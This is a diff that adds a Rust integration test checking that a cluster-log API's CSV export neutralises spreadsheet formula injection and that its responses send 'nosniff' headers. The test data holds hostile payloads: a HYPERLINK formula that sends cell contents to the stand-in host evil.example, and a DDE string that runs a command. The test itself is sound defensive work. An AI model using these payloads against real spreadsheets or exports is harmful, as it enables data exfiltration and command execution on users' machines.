@@ -588,3 +588,72 @@ async fn tokens_secrets_and_authorization_headers_never_reach_the_logs() {
         "an Authorization header was logged: {header_lines:?}"
     );
 }
+
+/// A downloaded history opened in a spreadsheet runs no formula a log's author wrote, is saved as
+/// a file, and no answer of either API may be sniffed as another type.
+#[tokio::test]
+async fn downloads_run_no_formulas_and_no_answer_can_be_sniffed() {
+    let state = matrix_state().await;
+    let mut hostile = draft("=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")", false);
+    hostile["description"] = json!("@SUM(1+1)*cmd|' /C calc'!A0");
+    hostile["service_name"] = json!("+hive");
+    create(&state, &hostile).await;
+    let csv = cluster_request("GET", "/clusters/{uuid}/cluster_logs", "")
+        .caller(Caller::reader())
+        .query("format", "csv")
+        .respond(&state)
+        .await;
+    assert_eq!(csv.status(), 200);
+    assert_eq!(
+        csv.headers()["content-disposition"],
+        "attachment; filename=\"cluster_logs.csv\""
+    );
+    let text = String::from_utf8(csv.body().to_vec()).unwrap();
+    let mut rows = csv::Reader::from_reader(text.as_bytes());
+    let headers = rows.headers().unwrap().clone();
+    let row = rows.records().next().unwrap().unwrap();
+    let cell = |name: &str| &row[headers.iter().position(|h| h == name).unwrap()];
+    assert_eq!(
+        cell("summary"),
+        "'=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")"
+    );
+    assert_eq!(cell("description"), "'@SUM(1+1)*cmd|' /C calc'!A0");
+    assert_eq!(cell("service_name"), "'+hive");
+    // Every kind of answer: a page, CSV, an error, a refusal, the contract; and system logs'.
+    let mut answers = vec![csv];
+    for request in [
+        cluster_request("GET", "/clusters/{uuid}/cluster_logs", "").caller(Caller::reader()),
+        cluster_request("GET", "/cluster_logs/{id}", "no-such-log").caller(Caller::reader()),
+        cluster_request("GET", "/cluster_logs", "").caller(Caller::Anonymous),
+    ] {
+        answers.push(request.respond(&state).await);
+    }
+    let auth = shared::identity::Authenticator::new("groups", Some(LOCAL_SECRET));
+    answers.push(
+        functions::openapi_spec::handler(&auth, integration_tests::sample_event("openapi-spec"))
+            .await
+            .unwrap(),
+    );
+    for answer in &answers {
+        assert_eq!(
+            answer
+                .headers()
+                .get("x-content-type-options")
+                .map(|v| v.to_str().unwrap()),
+            Some("nosniff"),
+            "{}",
+            answer.status()
+        );
+    }
+    let system = system_logs_state().await;
+    for caller in [
+        Caller::with_roles(&["system-logs-reader"]),
+        Caller::Anonymous,
+    ] {
+        let answer = ApiRequest::system("GET", "/", "/")
+            .caller(caller)
+            .answer(&system)
+            .await;
+        assert_eq!(answer.header("x-content-type-options"), Some("nosniff"));
+    }
+}
